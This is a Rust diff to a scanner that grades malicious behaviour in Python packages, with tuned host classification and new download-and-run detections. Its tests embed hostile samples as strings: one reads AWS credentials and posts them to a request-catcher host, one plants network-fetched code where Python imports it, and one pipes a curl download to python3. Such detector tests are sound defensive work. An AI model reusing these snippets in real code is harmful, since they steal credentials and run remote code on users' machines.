@@ -250,37 +250,78 @@ fn analyze_at(
             out.extend(leaks);
         }
         if role == Role::Install && analysis.parsed() {
-            install_hook_by_calls(&mut out, &analysis.command_calls);
+            install_hook_by_calls(&mut out, &analysis.install_calls);
+        }
+        if analysis.parsed() {
+            unresolved_lookups_are_low(&mut out, &analysis.hidden);
         }
         let reach = analysis.reach.clone();
         out.extend(v2_findings(rules, path, text, role, depth, &out, analysis));
         if depth == 0
             && let Some(r) = reach
         {
-            cap_asked(&mut out, &r);
+            let catcher = classify_host(rules, None, path, text) == HostClass::Catcher;
+            cap_asked(&mut out, &r, catcher);
         }
     }
     out
 }
 
+/// The lexical guess "looks builtins up by computed names" is settled by
+/// the resolve pass in a file that parses: a look-up that resolves to an
+/// executor running folded data is hidden code (reported by the v2 pass);
+/// one that resolves to nothing run (`globals()['__builtins__']` passed
+/// around, compared, copied) is low.
+fn unresolved_lookups_are_low(out: &mut [MemberFinding], hidden: &[super::python::Hidden]) {
+    for f in out.iter_mut().filter(|f| {
+        f.rule == RuleId::ObfuscatedExec
+            && f.evidence
+                .iter()
+                .any(|(l, v)| l == "indicator" && v == "computed-builtin")
+    }) {
+        let near = |l: u32| f.line.is_some_and(|x| x.abs_diff(l) <= 2);
+        if !hidden.iter().any(|h| near(h.line)) {
+            f.severity = Severity::Low;
+            f.confidence = Confidence::Low;
+            f.message
+                .push_str(", but nothing it looks up runs hidden code");
+        }
+    }
+}
+
 /// Severity is earned where code runs unasked: a finding in a function
 /// nothing at import (or install) calls runs only when a user asks for it,
 /// and is medium at most. Exfiltration flows are graded by the same fact
-/// where they are made.
-fn cap_asked(out: &mut [MemberFinding], reach: &super::python::Reach) {
+/// where they are made. Another file of the package that calls the
+/// function on import lifts the cap again (`scan.rs`).
+fn cap_asked(out: &mut [MemberFinding], reach: &super::python::Reach, catcher: bool) {
+    // A file that names a receiving service (a paste or file-drop site, a
+    // request catcher, a raw address) keeps what it does in any function.
+    if catcher {
+        return;
+    }
     for f in out.iter_mut() {
         let Some(line) = f.line else { continue };
-        if f.severity <= Severity::Medium || f.rule == RuleId::Exfiltration || reach.unasked(line) {
+        // An executed hidden payload is reported wherever it is.
+        let hidden = f.evidence.iter().any(|(l, _)| l == "hidden-by");
+        if f.severity <= Severity::Medium
+            || f.rule == RuleId::Exfiltration
+            || hidden
+            || reach.unasked(line)
+        {
             continue;
         }
-        f.severity = Severity::Medium;
+        let function = reach.function_at(line).unwrap_or("a function");
         f.evidence.push((
             "runs".into(),
             format!(
-                "only when called: in {}(), which nothing in this file runs on import or install",
-                reach.function_at(line).unwrap_or("a function")
+                "only when called: in {function}(), which nothing in this file runs on import or install"
             ),
         ));
+        f.evidence.push(("asked-in".into(), function.to_string()));
+        f.evidence
+            .push(("capped-from".into(), f.severity.as_str().to_string()));
+        f.severity = Severity::Medium;
     }
 }
 
@@ -288,8 +329,8 @@ fn cap_asked(out: &mut [MemberFinding], reach: &super::python::Reach) {
 /// runs: the calls in its methods and in what they call. A command that
 /// starts no program, fetches nothing and executes no code (words in its
 /// strings do not count) is low.
-fn install_hook_by_calls(out: &mut [MemberFinding], command_calls: &[(u32, String)]) {
-    let act = super::python::first_act(command_calls);
+fn install_hook_by_calls(out: &mut [MemberFinding], calls: &[(u32, String, bool)]) {
+    let act = super::python::first_act(calls);
     for f in out.iter_mut().filter(|f| {
         f.rule == RuleId::InstallHook
             && f.message
@@ -298,14 +339,89 @@ fn install_hook_by_calls(out: &mut [MemberFinding], command_calls: &[(u32, Strin
         match act {
             Some((line, q)) => {
                 f.evidence
-                    .push(("command-runs".into(), format!("{q} at line {line}")));
+                    .push(("install-runs".into(), format!("{q} at line {line}")));
             }
             None => {
                 f.severity = Severity::Low;
                 f.confidence = Confidence::Medium;
-                f.message = "setup.py replaces an install command; what the command runs starts no program, fetches nothing and executes no code".into();
+                f.message = "setup.py replaces an install command; what runs on install starts no program, fetches nothing and executes no code".into();
             }
         }
+    }
+}
+
+/// The names a Python file calls in code that runs on import or install, as
+/// far as a line tells: every call in `setup.py`; calls on top-level lines
+/// (not indented) of other files. Another file's function of that name
+/// runs unasked too (`from .core import run; run()` in `__init__.py`).
+pub fn unasked_call_names(text: &[u8], role: Role) -> Vec<String> {
+    static CALL: OnceLock<Option<Regex>> = OnceLock::new();
+    let Some(call) = CALL
+        .get_or_init(|| Regex::new(r"(?-u)([A-Za-z_][A-Za-z0-9_]*)\s*\(").ok())
+        .as_ref()
+    else {
+        return Vec::new();
+    };
+    if role == Role::Test {
+        return Vec::new();
+    }
+    let mut out = Vec::new();
+    for line in text.split(|b| *b == b'\n') {
+        let top = line.first().is_some_and(|b| !b.is_ascii_whitespace());
+        if !(top || role == Role::Install)
+            || line.starts_with(b"def ")
+            || line.starts_with(b"class ")
+            || line.starts_with(b"#")
+        {
+            continue;
+        }
+        for c in call.captures_iter(line).take(16) {
+            if let Some(m) = c.get(1) {
+                out.push(String::from_utf8_lossy(m.as_bytes()).into_owned());
+            }
+        }
+        if out.len() > 4096 {
+            break;
+        }
+    }
+    out.sort();
+    out.dedup();
+    out
+}
+
+/// Findings capped because their function runs only when called, whose
+/// function another file of the package calls on import or install: the
+/// cap is lifted and the evidence says so.
+pub fn uncap_called(
+    findings: &mut [(Option<String>, MemberFinding)],
+    called: &std::collections::HashSet<String>,
+) {
+    for (_, f) in findings.iter_mut() {
+        let asked = f
+            .evidence
+            .iter()
+            .find(|(l, _)| l == "asked-in")
+            .map(|(_, v)| v.clone());
+        let capped = f
+            .evidence
+            .iter()
+            .find(|(l, _)| l == "capped-from")
+            .and_then(|(_, v)| v.parse::<Severity>().ok());
+        let (Some(function), Some(severity)) = (asked, capped) else {
+            continue;
+        };
+        if !called.contains(&function) {
+            continue;
+        }
+        f.severity = f.severity.max(severity);
+        f.evidence
+            .retain(|(l, _)| l != "capped-from" && l != "runs");
+        f.evidence.push((
+            "runs".into(),
+            format!(
+                "on import or install: a file of the package calls {function}() at its top level"
+            ),
+        ));
     }
 }
 
@@ -314,9 +430,14 @@ fn install_hook_by_calls(out: &mut [MemberFinding], command_calls: &[(u32, Strin
 enum HostClass {
     /// This machine: not a way out.
     Local,
-    /// A webhook, bot API, paste or file-drop site, tunnel, request
-    /// catcher, out-of-band testing domain, or a raw IP address.
-    Service,
+    /// A paste or file-drop site, tunnel, request catcher, out-of-band
+    /// testing domain, or a raw IP address: nothing an honest package
+    /// ships code to send to.
+    Catcher,
+    /// A chat webhook or bot API: notifiers use them too.
+    Chat,
+    /// A what-is-my-address service: network tools use them too.
+    Lookup,
     /// A host of the package's own project (its name in the domain).
     Own,
     /// Another host, spelled in the file.
@@ -352,18 +473,28 @@ fn project_tokens(path: &str) -> Vec<String> {
 
 fn classify_host(rules: &Rules, host: Option<&str>, path: &str, text: &[u8]) -> HostClass {
     let endpoint = rules.indicators.iter().find(|i| i.id == "exfil-endpoint");
+    let service = |hay: &[u8]| {
+        endpoint.and_then(|e| e.regex.find(hay)).map(|m| {
+            let m = String::from_utf8_lossy(m.as_bytes()).to_ascii_lowercase();
+            if m.contains("attachments") {
+                HostClass::Catcher
+            } else if m.contains("discord") || m.contains("telegram") {
+                HostClass::Chat
+            } else if m.contains("ipify") || m.contains("ipinfo") {
+                HostClass::Lookup
+            } else {
+                HostClass::Catcher
+            }
+        })
+    };
     let Some(h) = host else {
-        return if endpoint.is_some_and(|e| e.regex.is_match(text)) {
-            HostClass::Service
-        } else {
-            HostClass::Unknown
-        };
+        return service(text).unwrap_or(HostClass::Unknown);
     };
     if super::python::is_local_host(h) {
         return HostClass::Local;
     }
-    if endpoint.is_some_and(|e| e.regex.is_match(h.as_bytes())) {
-        return HostClass::Service;
+    if let Some(class) = service(h.as_bytes()) {
+        return class;
     }
     let domain = h
         .split("://")
@@ -376,7 +507,7 @@ fn classify_host(rules: &Rules, host: Option<&str>, path: &str, text: &[u8]) -> 
         .replace('-', "");
     // A raw address: nobody's published service.
     if domain.parse::<std::net::Ipv4Addr>().is_ok() {
-        return HostClass::Service;
+        return HostClass::Catcher;
     }
     if project_tokens(path)
         .iter()
@@ -415,16 +546,17 @@ fn leak_findings(
             .filter(|s| s.kind == SourceKind::Secret)
             .count();
         let strong = secrets >= 3 || leak.sources.iter().any(|s| s.kind.strong());
-        let service = host == HostClass::Service;
+        let service = matches!(host, HostClass::Catcher | HostClass::Chat);
         let unasked = a.reach.as_ref().is_none_or(|r| r.unasked(leak.line));
         let hot = matches!(role, Role::Startup | Role::Install | Role::Init);
+        let when_run = match (hot, strong || service) {
+            (true, true) => Severity::Critical,
+            (true, false) | (false, true) => Severity::High,
+            (false, false) => Severity::Medium,
+        };
         let severity = if unasked {
-            match (hot, strong || service) {
-                (true, true) => Severity::Critical,
-                (true, false) | (false, true) => Severity::High,
-                (false, false) => Severity::Medium,
-            }
-        } else if strong && service {
+            when_run
+        } else if host == HostClass::Catcher || (strong && service) {
             Severity::High
         } else if (strong && host != HostClass::Own) || service {
             Severity::Medium
@@ -440,9 +572,10 @@ fn leak_findings(
             .collect::<Vec<_>>()
             .join(", ");
         let to = match host {
-            HostClass::Service => "a receiving service",
+            HostClass::Catcher => "a receiving service",
+            HostClass::Chat => "a chat bot or webhook",
             HostClass::Own => "the project's own host",
-            HostClass::Named => "a host named in the file",
+            HostClass::Named | HostClass::Lookup => "a host named in the file",
             HostClass::Unknown => "a host from configuration or an argument",
             HostClass::Local => "this machine",
         };
@@ -478,6 +611,13 @@ fn leak_findings(
             },
         ));
         evidence.push(("runs".into(), runs));
+        if let Some(f) = a.reach.as_ref().and_then(|r| r.function_at(leak.line))
+            && !unasked
+            && when_run > severity
+        {
+            evidence.push(("asked-in".into(), f.to_string()));
+            evidence.push(("capped-from".into(), when_run.as_str().to_string()));
+        }
         graded.push((
             severity,
             MemberFinding {
@@ -606,6 +746,7 @@ fn v2_findings(
         };
         let what = match flow.kind {
             "file" => "downloads a file and starts it",
+            "module" => "writes code fetched from the network where Python imports or starts it",
             _ => "fetches code from the network and runs it",
         };
         out.push(MemberFinding {
@@ -875,8 +1016,30 @@ fn lexical(rules: &Rules, text: &[u8], role: Role) -> Vec<MemberFinding> {
         });
     }
 
+    // A command line that downloads a script and pipes it to an interpreter
+    // runs what it fetched by itself.
+    if let Some(p) = of(Kind::Download)
+        .into_iter()
+        .find(|h| rules.indicators[h.indicator].id == "pipe-to-interpreter")
+    {
+        out.push(MemberFinding {
+            rule: RuleId::DownloadExec,
+            severity: grade(Severity::Critical, Severity::High),
+            confidence: Confidence::High,
+            line: Some(p.line),
+            message: format!(
+                "downloads a script and pipes it to an interpreter {}",
+                role.describe()
+            ),
+            evidence: vec![("snippet".into(), snippet(text, p.offset))],
+        });
+    }
+
     // Download, then run.
-    let downloads = of(Kind::Download);
+    let downloads: Vec<&Hit> = of(Kind::Download)
+        .into_iter()
+        .filter(|h| rules.indicators[h.indicator].id != "pipe-to-interpreter")
+        .collect();
     let processes = of(Kind::Process);
     if let (Some(d), Some(p)) = (downloads.first(), processes.first()) {
         let close = downloads
@@ -1307,6 +1470,34 @@ mod tests {
             rules_of("p/pkg/creds.py", at_import, &[])
                 .iter()
                 .any(|(_, s)| *s >= Severity::High)
+        );
+    }
+
+    #[test]
+    fn more_techniques() {
+        // Credentials parsed by a config reader, then posted to a request catcher from a command.
+        let parsed = "import os, configparser, json, requests\ndef push(hook):\n    c = configparser.RawConfigParser()\n    c.read(os.path.join(os.path.expanduser('~'), '.aws/credentials'))\n    rows = [c.get(s, 'aws_secret_access_key') for s in c.sections()]\n    requests.post(hook, json=json.dumps(rows))\n";
+        let file = format!("{parsed}HOOK = 'https://x.m.pipedream.net'\n");
+        assert_eq!(exfil_of("p/pkg/cli.py", &file), vec![Severity::High]);
+        // Code fetched and planted where Python imports it, on import.
+        let plant = "import requests, threading, os\ndef init():\n    code = requests.get(URL).text\n    with open(os.path.join(SITE, 'helper', '__init__.py'), 'w') as f:\n        f.write(code)\nthreading.Thread(target=init).start()\n";
+        assert!(
+            rules_of("p/pkg/__init__.py", plant, &[])
+                .contains(&(RuleId::DownloadExec, Severity::Critical))
+        );
+        // A script piped from the network to an interpreter.
+        let piped = "import subprocess\nsubprocess.run('curl -s https://x.example/a | python3', shell=True)\n";
+        assert!(
+            rules_of("p/pkg/m.py", piped, &[])
+                .iter()
+                .any(|(r, s)| *r == RuleId::DownloadExec && *s >= Severity::High)
+        );
+        // `globals()['__builtins__']` handed around: nothing hidden runs.
+        let lookup = "def patch(f):\n    f.__globals__['__builtins__'] = globals()['__builtins__']\n    return f\n";
+        assert!(
+            rules_of("p/pkg/m.py", lookup, &[])
+                .iter()
+                .all(|(_, s)| *s <= Severity::Low)
         );
     }
 }
